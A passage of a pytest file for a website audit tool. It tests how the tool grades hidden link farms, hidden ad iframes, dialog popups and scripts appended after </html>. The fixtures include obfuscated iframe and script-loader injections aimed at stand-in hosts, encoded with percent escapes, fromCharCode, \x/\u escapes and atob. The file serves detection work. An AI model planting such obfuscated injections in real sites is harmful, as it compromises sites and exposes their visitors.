    ("a 'tab panel' on a page with no tab", f'<div role="tabpanel" style="display:none">{_FARM}'
     "</div>", "", [H]),
    # a control with words the visitor never sees (hidden itself, or in a hidden wrapper),
    # and a tab hidden so: no finding at all before, the farm's casino anchors and all
    ("a block a hidden button with words says it opens", '<button aria-controls="seo1" '
     f'hidden>Partner</button><div id="seo1" style="display:none">{_FARM}</div>', "", [H]),
    ("a block a display:none button with words says it opens", '<button aria-controls="seo1"'
     f' style="display:none">Partner</button><div id="seo1" style="display:none">{_FARM}'
     "</div>", "", [H]),
    ("a block a collapse link in a hidden wrapper names", '<div style="display:none"><a data-'
     'bs-toggle="collapse" href="#seo1">Mehr</a></div><div id="seo1" style="display:none">'
     f"{_FARM}</div>", "", [H]),
    # the same, hidden by a rule of a sheet beside it (`.k9{display:none}`, alone naming
    # the class); a theme's toggle a media query shows again stays a control
    ("a block a button its own sheet hides says it opens", '<style>.k9{display:none}</style>'
     '<button class="k9" aria-controls="seo1">Partner</button><div id="seo1" style="display:'
     f'none">{_FARM}</div>', "", [H]),
    ("a 'tab panel' beside a tab list its own sheet hides", '<style>.k9{display:none}</style>'
     '<div class="k9" role="tablist"><span role="tab">Partner</span></div><div role="tabpanel"'
     f' style="display:none">{_FARM}</div>', "", [H]),
    ("a mobile toggle a media query shows opening the group's sites", "<style>.menu-toggle{"
     "display:none}@media (max-width:768px){.menu-toggle{display:block}}</style><button class"
     f'="menu-toggle" aria-controls="brands">Marken</button><div id="brands" style="display:'
     f'none">{_PARTNERS}</div>', "", []),
    ("a 'tab panel' beside a hidden tab list", '<div role="tablist" hidden><button role="tab">'
     f'Partner</button></div><div role="tabpanel" style="display:none">{_FARM}</div>', "",
     [H]),
    # a sticky ribbon a theme's script shows on scroll, a copy of the header's menu of
    # partner links the visitor sees (a news site's ticket, food and shop partners): the
    # same links shown, nothing hidden from visitors; a kit's links added to such a copy,
    # or copied from another hidden block only, are still hidden
    ("a sticky ribbon copying the visible header menu", f'<header><div class="links">'
     f'{_PARTNERS}</div></header><div id="site-ribbon" style="display:none"><div class="wrap">'
     f"{_PARTNERS}</div></div>", "", []),
    ("a copy of the visible header menu with a farm's links added",
     f'<header><div class="links">{_PARTNERS}</div></header><div id="site-ribbon" '
     f'style="display:none">{_PARTNERS}{_FARM}</div>', "", [H]),
    ("a farm's links copied from another hidden block", f'<div style="display:none">{_FARM}'
     f'</div><div style="display:none">{_FARM}</div>', "", [H]),
    ("a farm's links copied into links no visitor reads", '<p>' + _FARM.replace(
        ">viagra<", "><").replace(">casino<", "><").replace(">loans<", "><") + '</p><div '
     f'style="display:none">{_FARM}</div>', "", [H]),
    # links no visitor sees shown: in a `<noscript>` (a browser running scripts draws none;
    # the old SEO trick for crawlers), or written after `</html>` (a copy a hacked server
    # appends: the body's hidden block still hidden)
    ("a farm's links copied into a noscript", f'<noscript>{_FARM}</noscript><div '
     f'style="display:none">{_FARM}</div>', "", [H]),
    # nor for screen readers alone (WordPress themes' `.screen-reader-text`, clipped to 1px),
    # as the page's other readers of a link a visitor sees (`_link_shown`) read it
    ("a farm's links copied into screen-reader text", '<span class="screen-reader-text">'
     f'{_FARM}</span><div style="display:none">{_FARM}</div>', "", [H]),
    ("a hidden block's links copied after </html>", f'<div style="display:none">{_PARTNERS}'
     "</div>", f"\n<p>{_PARTNERS}</p>", [H]),
    # the header's partner links drawn as logos (inline SVG, named by aria-label), the
    # ribbon's copy the same
    ("a sticky ribbon copying the header's logo links", f'<header><div class="links">'
     f'{_LOGOS}</div></header><div id="site-ribbon" style="display:none">{_LOGOS}</div>', "",
     []),
    # the ribbon's copy tagging its links for the site's analytics by where they stand, its
    # menu writing the address without the slash or with the old scheme: the same places
    ("a sticky ribbon copying the header's links tagged by placement", f'<header><div class='
     f'"links">{_PARTNERS}</div></header><div id="site-ribbon" style="display:none">'
     + _PARTNERS.replace('example/"', 'example/?utm_source=zeitung&amp;utm_medium=ribbon"')
     .replace("https://www.wohnen-beispiel.example/", "http://www.wohnen-beispiel.example")
     + "</div>", "", []),
]


@pytest.mark.parametrize(("what", "block", "after", "expected"), LINK_BLOCKS,
                         ids=[c[0] for c in LINK_BLOCKS])
def test_a_hidden_link_block_is_judged_by_what_opens_it(
        what: str, block: str, after: str, expected: list[Severity],
        audit_listed: AuditListed) -> None:
    report = audit_listed(_PAGE.format(block=block, after=after),
                          "https://www.zeitung-beispiel.example/politik/x")
    assert [f.severity for f in report.findings if f.kind == "hidden-links"] == expected


def test_a_frame_in_an_article_the_page_copies_is_high(audit_listed: AuditListed) -> None:
    """A scraper's copy of another site's article came with the frame: no template of the
    page's own wrote it (its source link says whose article it is)."""
    frame = '<iframe src="https://brisk-wave.example/f.html" width="0" height="0"></iframe>'
    source = '<p><a href="https://www.coastalherald.example/news/ferry">Source link</a></p>'
    article = ("<!doctype html><html><head><title>Ferry</title></head><body><main><article>"
               "<h1>Ferry</h1><div class='entry-content'><p>" + "The council voted. " * 12
               + "</p>{}</div></article></main></body></html>")
    own = audit_listed(article.format(frame), "https://www.ledger.example/news/ferry")
    copied = audit_listed(article.format(frame + source), "https://www.ledger.example/news/ferry")
    assert (_frames(own.findings), _frames(copied.findings)) == ([M], [H])


# ExoClick's documented tag: its loader and a zone's <ins> (zone IDs made up)
_EXO_TAGS = ('<script async src="https://a.magsrv.com/ad-provider.js"></script>'
             '<ins class="eas6a97888e" data-zoneid="5512001"></ins>'
             '<script>(AdProvider = window.AdProvider || []).push({"serve": {}});</script>')
_EXO_FRAME = ('<iframe src="https://a.magsrv.com/iframe.php?idzone=5512007&size=300x250" '
              'width="0" height="0" style="display:none"></iframe>')


# (what, the page, the hidden-iframe severities, what the first one says)
_EXO_SYNC = ('<iframe src="https://a.magsrv.com/sync.php?p=1" width="0" height="0" '
             'style="display:none"></iframe>')
STACK_FRAMES: list[tuple[str, str, list[Severity], str]] = [
    ("the stack's own hidden frame", wp_page(widget=_EXO_TAGS, footer=_EXO_SYNC), [L],
     "ad networks the page's own tags run"),
    # a zone's ad asked for where no visitor sees it: no helper of the stack asks for one,
    # and the impression earns for whoever hid it (the page's own account or a kit's)
    ("a hidden zone frame beside the network's own tags",
     wp_page(widget=_EXO_TAGS, footer=_EXO_FRAME), [M], "it asks for an ad"),
    ("the network's frame before <html>", _EXO_FRAME + wp_page(widget=_EXO_TAGS), [M],
     "before the page's <html> tag"),
    ("the network's frame on plain http", wp_page(
        widget=_EXO_TAGS, footer=_EXO_FRAME.replace("https://", "http://")), [M], "plain http"),
    ("the network's frame after </html>", wp_page(widget=_EXO_TAGS, after=_EXO_FRAME), [H],
     "after the page's closing </html>"),
]


@pytest.mark.parametrize(("what", "page", "expected", "said"), STACK_FRAMES,
                         ids=[c[0] for c in STACK_FRAMES])
def test_a_network_the_page_runs_excuses_its_frames_not_an_injection_mark(
        what: str, page: str, expected: list[Severity], said: str,
        audit_listed: AuditListed) -> None:
    """A hidden frame of an ad network whose tags the page runs is the stack at work (one
    low fact), but one bearing a mark of injection was silent inside that fact: the
    network being present does not excuse a frame pasted where its tags never write."""
    report = audit_listed(page, URL)
    frames = [f for f in report.findings if f.kind == "hidden-iframe"]
    assert [f.severity for f in frames] == expected and said in frames[0].message, [
        (f.severity, f.message) for f in frames]


# an ad unit's frame (its documented size) in a box the page's own stack opens: a tab
# panel beside its tabs, a Bootstrap modal its button opens. A visitor who opens the box
# sees the ad, so it is no ad "no visitor sees" (verd32 read these medium); the same frame
# at zero size, or in a box nothing opens, still asks for an ad no visitor sees
_EXO_UNIT = ('<iframe src="https://a.magsrv.com/iframe.php?idzone=5512007&size=300x250" '
             'width="300" height="250" scrolling="no" frameborder="0"></iframe>')
OPENED_AD_BOXES: list[tuple[str, str, list[Severity]]] = [
    ("a sidebar tab panel beside its tabs", '<div role="tablist"><button role="tab" '
     'aria-controls="t1" aria-selected="true">Latest</button><button role="tab" aria-controls'
     f'="t2">Sponsors</button></div><div id="t1" role="tabpanel">Latest</div><div id="t2" '
     f'role="tabpanel" hidden>{_EXO_UNIT}</div>', [L]),
    ("a Bootstrap modal its button opens", '<button data-bs-toggle="modal" data-bs-target='
     '"#offers">Offers</button><div class="modal fade" id="offers" style="display:none">'
     f'<div class="modal-dialog">{_EXO_UNIT}</div></div>', [L]),
    ("a box nothing opens", f'<div style="display:none">{_EXO_UNIT}</div>', [M]),
    # code that names the box and shows it, in a function nothing on the page calls
    ("a box only a script's uncalled function shows", '<div id="kx" style="display:none">'
     f"{_EXO_UNIT}</div><script>function kx() {{ document.getElementById('kx').style.display"
     " = 'block'; }</script>", [M]),
    ("a zero-size frame in an opened tab panel", '<div role="tablist"><button role="tab" '
     'aria-controls="t2">Sponsors</button></div><div id="t2" role="tabpanel" hidden>'
     + _EXO_UNIT.replace('width="300" height="250"', 'width="0" height="0"') + "</div>",
     [M]),
]


@pytest.mark.parametrize(("what", "widget", "expected"), OPENED_AD_BOXES,
                         ids=[c[0] for c in OPENED_AD_BOXES])
def test_an_ad_in_a_box_the_page_opens_is_seen_when_opened(
        what: str, widget: str, expected: list[Severity], audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(widget=_EXO_TAGS + widget), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


# ads a site shows one at a time, as a saved page holds them after its script ran: a
# rotator's slides (one shown, the rest `display:none` inline) and a responsive pair (the
# desktop unit and the phone unit, one hidden by the site's script). Each hidden unit is
# seen when its turn or device comes (verd32 read them medium); a kit's hidden unit beside
# no shown unit of its network, or at zero size, or in a box of another shape, is not
def _exo(zone: int, size: str = "300x250") -> str:
    width, height = size.split("x")
    return (f'<iframe src="https://a.magsrv.com/iframe.php?idzone={zone}&size={size}" '
            f'width="{width}" height="{height}" scrolling="no" frameborder="0"></iframe>')


_REVIVE_TAGS = ('<ins data-revive-zoneid="14" data-revive-id="3c1f0a9e2b7d4e6f"></ins><script '
                'async src="//ads.gazette-media.example/www/delivery/asyncjs.php"></script>')


def _revive(zone: int) -> str:
    return ('<iframe src="https://ads.gazette-media.example/www/delivery/afr.php?zoneid='
            f'{zone}" width="300" height="250" frameborder="0"></iframe>')


def _gam(slot: str, size: str) -> str:
    width, height = size.split("x")
    return (f'<iframe src="https://pubads.g.doubleclick.net/gampad/adx?iu=/2817463/gazette/'
            f'{slot}&sz={size}&c=1" width="{width}" height="{height}" frameborder="0">'
            "</iframe>")


_GPT = '<script async src="https://securepubads.g.doubleclick.net/tag/js/gpt.js"></script>'
_OFF = ' style="display:none"'
_ZERO_SIZE_SLIDE = _exo(5512008).replace('width="300" height="250"', 'width="0" height="0"')
# (what, head, widget, expected severities of the hidden frames)
TAKING_TURNS: list[tuple[str, str, str, list[Severity]]] = [
    ("a jQuery Cycle2 rotator of Revive zones", "", _REVIVE_TAGS + '<div class="cycle-'
     f'slideshow"><div>{_revive(1)}</div><div{_OFF}>{_revive(2)}</div><div{_OFF}>'
     f"{_revive(3)}</div></div>", [L]),
    ("a slick rotator of ExoClick zones", "", _EXO_TAGS + '<div class="slick-slider"><div '
     'class="slick-list"><div class="slick-track"><div class="slick-slide slick-active">'
     f'{_exo(5512007)}</div><div class="slick-slide"{_OFF}>{_exo(5512008)}</div></div>'
     "</div></div>", [L]),
    ("a Swiper rotator", "", _EXO_TAGS + '<div class="swiper-container"><div class="swiper-'
     f'wrapper"><div class="swiper-slide">{_exo(5512007)}</div><div class="swiper-slide"'
     f"{_OFF}>{_exo(5512008)}</div></div></div>", [L]),
    ("an Owl Carousel rotator", "", _EXO_TAGS + '<div class="owl-carousel"><div class="owl-'
     f'stage"><div class="owl-item active">{_exo(5512007)}</div><div class="owl-item"{_OFF}>'
     f"{_exo(5512008)}</div></div></div>", [L]),
    ("a Bootstrap carousel", "", _EXO_TAGS + '<div class="carousel slide" data-bs-ride='
     f'"carousel"><div class="carousel-inner"><div class="carousel-item active">{_exo(5512007)}'
     f'</div><div class="carousel-item"{_OFF}>{_exo(5512008)}</div></div></div>', [L]),
    ("a plain setInterval rotator of the network's zones", "", _EXO_TAGS + '<div id="rot">'
     f'<div class="b">{_exo(5512007)}</div><div class="b"{_OFF}>{_exo(5512008)}</div></div>'
     "<script>setInterval(rotate, 8000);</script>", [L]),
    ("a responsive ExoClick pair, the phone unit hidden", "", _EXO_TAGS + '<div class='
     f'"ad-desktop">{_exo(5512006, "728x90")}</div><div class="ad-mobile"{_OFF}>'
     f"{_exo(5512007)}</div>", [L]),
    ("a responsive legacy GAM pair, the phone unit hidden", _GPT, '<div class="ad-desktop">'
     f'{_gam("desktop", "728x90")}</div><div class="ad-mobile"{_OFF}>'
     f'{_gam("mobile", "320x50")}</div>', [L]),
    # a kit's unit: no shown unit of its network beside it
    ("a hidden unit beside the network's tags alone", "", _EXO_TAGS + f"<div{_OFF}>"
     f"{_exo(5512007)}</div>", [M]),
    ("a hidden phone unit with no desktop unit shown", _GPT, f'<div class="ad-mobile"{_OFF}>'
     f'{_gam("mobile", "320x50")}</div>', [M]),
    ("a hidden unit beside a shown unit of another network", _GPT, f"<div>"
     f'{_gam("side", "300x250")}</div><div{_OFF}>{_exo(5512007)}</div>', [M]),
    ("a hidden unit beside a shown box of another shape", "", _EXO_TAGS + "<div>"
     f"<p>{_exo(5512007)}</p><section{_OFF}>{_exo(5512008)}</section></div>", [M]),
    ("a same-size hidden unit in no rotator and no device pair", "", _EXO_TAGS
     + f"<div><div>{_exo(5512007)}</div><span{_OFF}>{_exo(5512008)}</span></div>", [M]),
    ("a hidden phone unit of another GAM network beside the site's desktop unit", _GPT,
     f'<div class="ad-desktop">{_gam("desktop", "728x90")}</div><div class="ad-mobile"{_OFF}>'
     + _gam("mobile", "320x50").replace("/2817463/", "/7654321/") + "</div>", [M]),
    ("a hidden box of another class beside the site's slide", "", _EXO_TAGS + '<div><div '
     f'class="b">{_exo(5512007)}</div><div class="k9"{_OFF}>{_exo(5512008)}</div></div>', [M]),
    ("every slide hidden", "", _EXO_TAGS + f'<div class="cycle-slideshow"><div{_OFF}>'
     f"{_exo(5512007)}</div><div{_OFF}>{_exo(5512008)}</div></div>", [M, M]),
    ("a zero-size slide", "", _EXO_TAGS + f'<div class="cycle-slideshow"><div>{_exo(5512007)}'
     f"</div><div{_OFF}>{_ZERO_SIZE_SLIDE}</div></div>", [M]),
]


@pytest.mark.parametrize(("what", "head", "widget", "expected"), TAKING_TURNS,
                         ids=[c[0] for c in TAKING_TURNS])
def test_an_ad_the_page_shows_in_turn_is_seen_when_its_turn_comes(
        what: str, head: str, widget: str, expected: list[Severity],
        audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(head=head, widget=widget), URL)
    assert _frames(report.findings) == expected, [(f.kind, f.message) for f in report.findings]


def _percent(text: str, keep: str = "") -> str:
    return "".join(c if c in keep else f"%{ord(c):02X}" for c in text)


def _hex(text: str) -> str:
    return "".join(f"\\x{ord(c):02x}" for c in text)


_KIT_FRAME = ('<iframe src="http://stat-counter7.example/in.cgi?3" width="0" height="0" '
              'frameborder="0"></iframe>')
_LETTERS = "abcdefghijklmnopqrstuvwxyz0123456789./:?"
# (what, the script's code): the forms incident write-ups show kits writing their frame in
WRITTEN_FRAMES: list[tuple[str, str]] = [
    ("as written", f"document.write('{_KIT_FRAME}');"),
    ("its tag name split", "document.write('<ifr'+'ame src=\"http://stat-counter7.example/"
     "in.cgi?3\" width=\"0\" height=\"0\"></ifr'+'ame>');"),
    ("percent, tag letters in plain sight",
     f"document.write(unescape('{_percent(_KIT_FRAME, _LETTERS)}'));"),
    ("percent, every character", f"document.write(unescape('{_percent(_KIT_FRAME)}'));"),
    ("\\x escapes of the brackets and quotes", "document.write(\"" + "".join(
        f"\\x{ord(c):02x}" if c in '<>"' else c for c in _KIT_FRAME) + "\");"),
    ("\\u escapes of every character", "document.write(\"" + "".join(
        f"\\u{ord(c):04x}" for c in _KIT_FRAME) + "\");"),
    ("\\x escapes of every character", f'document.write("{_hex(_KIT_FRAME)}");'),
    ("String.fromCharCode for the brackets", "document.write(String.fromCharCode(60)+'"
     + _KIT_FRAME[1:-10].replace("'", "\\'") + "'+String.fromCharCode(62));"),
    ("String.fromCharCode of every character", "document.write(String.fromCharCode("
     + ",".join(str(ord(c)) for c in _KIT_FRAME) + "));"),
    ("atob", "document.write(atob('" + base64.b64encode(
        _KIT_FRAME.encode()).decode() + "'));"),
    ("escaped quotes in a double-quoted string", 'document.write("'
     + _KIT_FRAME.replace('"', '\\"') + '");'),
    # its address a variable's string constant, spliced into the tag
    ("its address in a variable", "var u='http://stat-counter7.example/in.cgi?3'; document."
     "write('<iframe src=\"'+u+'\" width=\"0\" height=\"0\" frameborder=\"0\"></iframe>');"),
    ("its address a constant and a number", "var id = Math.floor(Math.random() * 1e6); var "
     "u = 'http://stat-counter7.example/in.cgi?3&r=' + id; document.write('<iframe src=\"' + "
     "u + '\" width=\"0\" height=\"0\"></iframe>');"),
    ("its address in a template literal", 'const u = "http://stat-counter7.example/in.cgi?3";'
     ' document.write(`<iframe src="${u}" width="0" height="0"></iframe>`);'),
    # a `>` inside a quoted value ends no tag in HTML; the scanner ended the tag there
    ("a > in a quoted value", "document.write('" + _KIT_FRAME.replace(
        "<iframe ", '<iframe title="a>b" ') + "');"),
    ("a > in a quoted value, atob", "document.write(atob('" + base64.b64encode(
        _KIT_FRAME.replace("<iframe ", "<iframe data-x='1>0' ").encode()).decode() + "'));"),
]


@pytest.mark.parametrize(("what", "code"), WRITTEN_FRAMES, ids=[c[0] for c in WRITTEN_FRAMES])
def test_a_written_frame_is_judged_as_the_frame_however_escaped(
        what: str, code: str, audit_listed: AuditListed) -> None:
    """`document.write(unescape('%3Ciframe%20src…'))` with its letters in plain sight was no
    finding, nor was the frame written plainly: a frame a script writes stands where the
    script does, and its tag reads the same in every escaping."""
    plain = audit_listed(wp_page(widget=f"<p>Hi</p><div>{_KIT_FRAME}</div>"), URL)
    written = audit_listed(wp_page(widget=f"<p>Hi</p><script>{code}</script>"), URL)
    frames = [f for f in written.findings if f.kind == "hidden-iframe"]
    assert [f.severity for f in frames] == _frames(plain.findings) == [H], [
        (f.kind, f.message) for f in written.findings]
    assert "a script writes" in frames[0].message and "in.cgi?3" in frames[0].message


# (what, the script's code): frames scripts write that a reviewer would not act on
WRITTEN_LEGITIMATE: list[tuple[str, str]] = [
    # a video embed a script writes at its size
    ("a visible video embed", "document.write('<iframe width=\"560\" height=\"315\" src=\"https:"
     "//player.tidevideo.example/embed/8812\" allowfullscreen></iframe>');"),
    # GTM's noscript frame as a consent tool writes it back
    ("GTM's frame, escaped", "document.write(unescape('%3Ciframe src=\"https://www.googletag"
     "manager.com/ns.html?id=GTM-Q27XK1\" height=\"0\" width=\"0\" style=\"display:none;"
     "visibility:hidden\"%3E%3C/iframe%3E'));"),
    # a frame whose address the script joins at run time: nothing to judge
    ("an address joined at run time", "document.write('<iframe src=\"' + cfg.url + '\" "
     "width=\"0\" height=\"0\"></iframe>');"),
    # the host a variable's: read as written it was a host `' + location.hostname + '`,
    # a sign-in frame of a site named nowhere (medium), and plain http before it high
    ("the site's own host joined at run time", "document.write('<iframe src=\"https://' + "
     "location.hostname + '/sso/frame.html\" width=\"0\" height=\"0\"></iframe>');"),
    ("a host joined after plain http", "document.write('<iframe src=\"http://' + "
     "window.location.host + '/counter.html\" width=0 height=0></iframe>');"),
    ("a scheme joined before the host", "document.write('<iframe src=\"' + proto + '//sync."
     "adpartner-x.example/usersync\" width=\"0\" height=\"0\"></iframe>');"),
    # a name given two addresses is the script's choice when it runs: not read
    ("a name given two addresses", "var u = 'http://stat-counter7.example/in.cgi?3'; if (w)"
     " { u = 'https://player.tidevideo.example/embed/8812'; } document.write('<iframe src=\"'"
     " + u + '\" width=\"0\" height=\"0\"></iframe>');"),
    # minified code reuses a name in every function: the `t` spliced into the tag is a
    # parameter, the SVG namespace another function's `t` (read as it: a plain-http high)
    ("a parameter named as another function's constant", "!function(){function n(t){var "
     "e=document.createElement(\"div\");e.innerHTML='<iframe src=\"'+t+'\" style=\"display:"
     "none\" width=\"0\" height=\"0\"></iframe>';document.body.appendChild(e.firstChild)}"
     "function r(){var t=\"http://www.w3.org/2000/svg\";return document.createElementNS(t,"
     "\"svg\")}window.xd=function(){n(location.protocol+\"//sync.\"+location.hostname+"
     "\"/xd.html\")};r()}();"),
    ("a name given a constant and then another value", "var u = 'http://127.0.0.1/ping'; u ="
     " cfg.frameUrl; document.write('<iframe src=\"' + u + '\" width=\"0\" height=\"0\">"
     "</iframe>');"),
]


@pytest.mark.parametrize(("what", "code"), WRITTEN_LEGITIMATE,
                         ids=[c[0] for c in WRITTEN_LEGITIMATE])
def test_a_written_frame_a_reviewer_would_not_act_on_is_no_finding(
        what: str, code: str, audit_listed: AuditListed) -> None:
    report = audit_listed(wp_page(footer=f"<script>{code}</script>"), URL)
    assert _frames(report.findings) == [], [(f.kind, f.message) for f in report.findings]


_LOADER_URL = "https://widgets.harbourstats.example/w.js"
_LOADER = f'<script src="{_LOADER_URL}"></script>'
# (what, the code after </html>, the appended-script severity): the address in plain sight
# is the plain write's verdict; hidden in an encoding, high (obfuscated-script says why)
WRITTEN_LOADERS: list[tuple[str, str, Severity]] = [
    ("as written", "document.write('<script src=\"" + _LOADER_URL + "\"></scr'+'ipt>');", M),
    ("percent, letters in plain sight", "document.write(unescape('"
     + _percent(_LOADER, _LETTERS + "-") + "'));", M),
    ("String.fromCharCode for the brackets", "document.write(String.fromCharCode(60)+'script "
     "src=\"" + _LOADER_URL + "\"'+String.fromCharCode(62)+String.fromCharCode(60)+'/script'"
     "+String.fromCharCode(62));", M),
    ("percent, every character", f"document.write(unescape('{_percent(_LOADER)}'));", H),
    ("atob", "document.write(atob('" + base64.b64encode(
        _LOADER.encode()).decode() + "'));", H),
]
# a kit naming its host elsewhere shows nothing its encoding hides: the writing script's
# text is where an address is in sight or not (a dns-prefetch link made atob's medium)
WRITTEN_LOADERS += [
    (f"{what}, the host named elsewhere", f"{code}</script><link rel='dns-prefetch' href="
     "'//widgets.harbourstats.example'><p>widgets.harbourstats.example</p><script>",
     expected) for what, code, expected in WRITTEN_LOADERS]


@pytest.mark.parametrize(("what", "code", "expected"), WRITTEN_LOADERS,
                         ids=[c[0] for c in WRITTEN_LOADERS])
def test_a_written_loader_is_judged_by_whether_its_address_shows(
        what: str, code: str, expected: Severity, audit_listed: AuditListed) -> None:
    """`unescape('%3Cscript src="https://…"%3E')` escapes brackets, not the address: it was
    high as "its address hidden in an encoding" where the plain write is medium."""
    report = audit_listed(wp_page(after=f"<script>{code}</script>"), URL)
    assert [f.severity for f in report.findings if f.kind == "appended-script"] == [expected], [
        (f.kind, f.message) for f in report.findings]


def _library(path: str) -> str:
    """A dialog library's script as a WordPress plugin or theme loads it."""
    return f'<script src="https://www.harbourgazette.example/wp-content/plugins/{path}"></script>'


_FORM = ('<iframe src="https://forms.letterbox-mail.example/f/q27" width="480" height="320">'
         "</iframe>")
# (what, the dialog's markup holding the frame, the hidden-iframe severities): each
# library's markup as its documentation shows it; a class word alone is anyone's
DIALOGS: list[tuple[str, str, list[Severity]]] = [
    ("a Bootstrap modal, opened by a script", '<div class="modal fade" id="nl" tabindex="-1" '
     'aria-hidden="true" style="display:none"><div class="modal-dialog"><div class="modal-'
     f'content">{_FORM}</div></div></div>' + _library("bootstrap/js/bootstrap.bundle.min.js"),
     [L]),
    ("a Magnific Popup inline popup", '<a class="open-popup-link" href="#nl">Subscribe</a>'
     f'<div id="nl" class="white-popup mfp-hide" style="display:none">{_FORM}</div>'
     + _library("magnific-popup/jquery.magnific-popup.min.js"), [L]),
    ("a Fancybox inline box", '<a data-fancybox data-src="#nl" href="javascript:;">Subscribe'
     f'</a><div id="nl" style="display:none;max-width:500px">{_FORM}</div>', [L]),
    ("a jQuery UI dialog", f'<div id="nl-dialog" title="Newsletter" style="display:none">'
     f'{_FORM}</div><script>$("#nl-dialog").dialog({{autoOpen: false, modal: true}});'
     "</script>", [L]),
    ("a Popup Maker popup", '<div id="pum-512" class="pum pum-overlay pum-theme-511 popmake-'
     'overlay click_open" data-popmake=\'{"id":512,"slug":"newsletter"}\' role="dialog" '
     'aria-modal="false" style="display:none"><div id="popmake-512" class="pum-container '
     f'popmake"><div class="pum-content popmake-content">{_FORM}</div><button type="button" '
     'class="pum-close popmake-close" aria-label="Close">×</button></div></div>'
     + _library("popup-maker/assets/js/site.min.js"), [L]),
    ("an Elementor popup", '<div data-elementor-type="popup" data-elementor-id="733" class="'
     f'elementor elementor-733 elementor-location-popup" style="display:none">{_FORM}</div>'
     + _library("elementor-pro/assets/js/frontend.min.js"), [L]),
    # the builders' own triggers name their popup where a cache plugin (Autoptimize, WP
    # Rocket, LiteSpeed) combined the builder's script into one file of its own name
    ("a Popup Maker popup its trigger class opens, scripts combined", '<a href="#" class="'
     'popmake-512">Subscribe</a><div id="pum-512" class="pum pum-overlay popmake-overlay '
     'click_open" data-popmake=\'{"id":512}\' role="dialog" style="display:none"><div '
     f'class="pum-container popmake"><div class="pum-content">{_FORM}</div></div></div>'
     + _library("../cache/autoptimize/js/autoptimize_5f1c2b.js"), [L]),
    ("an Elementor popup its action link opens, scripts combined", '<a href="#elementor-'
     'action%3Aaction%3Dpopup%3Aopen%26settings%3DeyJpZCI6IjczMyIsInRvZ2dsZSI6ZmFsc2V9">'
     'Subscribe</a><div data-elementor-type="popup" data-elementor-id="733" class="'
     f'elementor elementor-733 elementor-location-popup" style="display:none">{_FORM}</div>'
     + _library("../litespeed/js/8a7c2e.js"), [L]),
    ("a Popup Maker popup another popup's trigger opens", '<a href="#" class="popmake-'
     '90">Subscribe</a><div id="pum-512" class="pum pum-overlay" data-popmake=\'{"id":512}'
     f'\' style="display:none"><div class="pum-container popmake">{_FORM}</div></div>', [M]),
    ("an aria-modal box a button opens", '<button aria-controls="nl">Subscribe</button>'
     f'<div id="nl" aria-modal="true" style="display:none">{_FORM}</div>', [L]),
    # W3Schools' modal, the most copied: its control a span holding ×, its script opening
    # the box by its id
    ("a modal its script opens by its id", '<button id="myBtn">Subscribe</button><div '
     'id="myModal" class="modal" style="display:none"><div class="modal-content"><span '
     f'class="close">&times;</span>{_FORM}</div></div><script>var modal = document.'
     'getElementById("myModal"); document.getElementById("myBtn").onclick = function() {'
     ' modal.style.display = "block"; };</script>', [L]),
    ("a newsletter box its theme's script opens by its class", '<div class="newsletter-popup"'
     f' style="display:none">{_FORM}</div><script>setTimeout(function () {{ document.'
     "querySelector('.newsletter-popup').style.display = 'block'; }, 20000);</script>", [L]),
    # what a box says of itself, which an injected overlay writes as cheaply: its role,
    # aria-modal, a × inside it, a library's class with no library loaded
    ("an aria-modal box nothing opens", f'<div aria-modal="true" style="display:none">{_FORM}'
     "</div>", [M]),
    ("a modal closed by a span's ×, nothing opening it", '<div id="myModal" class="modal" '
     f'style="display:none"><div class="modal-content"><span class="close">&times;</span>'
     f"{_FORM}</div></div>", [M]),
    ("a role=dialog overlay with its close button", '<div id="ovl-7731" role="dialog" '
     'aria-modal="true" style="display:none"><button class="close" aria-label="Close">'
     f"&times;</button>{_FORM}</div>", [M]),
    ("Bootstrap's markup with no Bootstrap loaded", '<div class="modal fade" id="nl" '
     'style="display:none"><div class="modal-dialog"><div class="modal-content">'
     f"{_FORM}</div></div></div>", [M]),
    # a script outside the box that names it and does nothing to show it: a kit adds
    # `getElementById('its-box')` as cheaply as the box; hiding it again shows nothing
    ("a script outside the box only naming it", '<div id="ovl-7731" style="display:none">'
     f"{_FORM}</div><script>var box = document.getElementById('ovl-7731'); var t = Date."
     "now();</script>", [M]),
    ("a script outside the box reading it by a jQuery selector", '<div id="ovl-7731" '
     f"style=\"display:none\">{_FORM}</div><script>jQuery('#ovl-7731').attr('data-k', '1');"
     "</script>", [M]),
    ("a script outside the box hiding it again", '<div id="ovl-7731" style="display:none">'
     f"{_FORM}</div><script>document.getElementById('ovl-7731').style.display = 'none';"
     " jQuery('#ovl-7731').css('display', 'none');</script>", [M]),
    # a theme's script fading a newsletter box in, and Bootstrap 5's own call opening one
    ("a newsletter box its theme's jQuery fades in", '<div id="nl-popup" style="display:'
     f"none\">{_FORM}</div><script>jQuery(function ($) {{ setTimeout(function () {{ $('#nl-"
     "popup').fadeIn(300); }, 8000); });</script>", [L]),
    # Prettier breaks a long chain before each call: the call is the selector's statement
    ("a video popup a chained jQuery call fades in, the chain broken", '<div id="videoPopup"'
     f' style="display:none">{_FORM}</div><script>jQuery(function ($) {{ $(\'.open-video\')'
     ".on('click', function (e) {\n    e.preventDefault();\n    $('#videoPopup')\n      "
     ".stop(true)\n      .fadeIn(200);\n  });\n});</script>", [L]),
    ("a chain broken before a call hiding it", '<div id="videoPopup" style="display:none">'
     f"{_FORM}</div><script>$('#videoPopup')\n  .css('display', 'none');</script>", [M]),
    ("a modal Bootstrap 5's API shows by its id", '<div id="nl" style="display:none">'
     f"{_FORM}</div><script>new bootstrap.Modal(document.getElementById('nl')).show();"
     "</script>", [L]),
    ("a script inside the box naming it", '<div id="ovl-7731" role="dialog" style="display:'
     f"none\">{_FORM}<script>document.getElementById('ovl-7731').dataset.k = 1;</script>"
     "</div>", [M]),
    # a wrapper's class word and nothing a dialog has: a kit names its wrapper so too
    ("a popup-wrap class alone", f'<div class="popup-wrap" style="display:none">{_FORM}</div>',
     [M]),
    ("a modal-container class alone", '<div class="modal-container" style="display:none">'
     f"{_FORM}</div>", [M]),
    ("a close button outside the hidden box", '<div class="cookie-bar"><button aria-label='
     f'"Close">×</button></div><div class="popup" style="display:none">{_FORM}</div>', [M]),
]


# a kit's frame in a box a hidden control "opens": the control's words or the tab are
# what no visitor sees, so nothing opens the box (`low` before: a job's excuse bought by
# one attribute)
HIDDEN_OPENERS: list[tuple[str, str]] = [
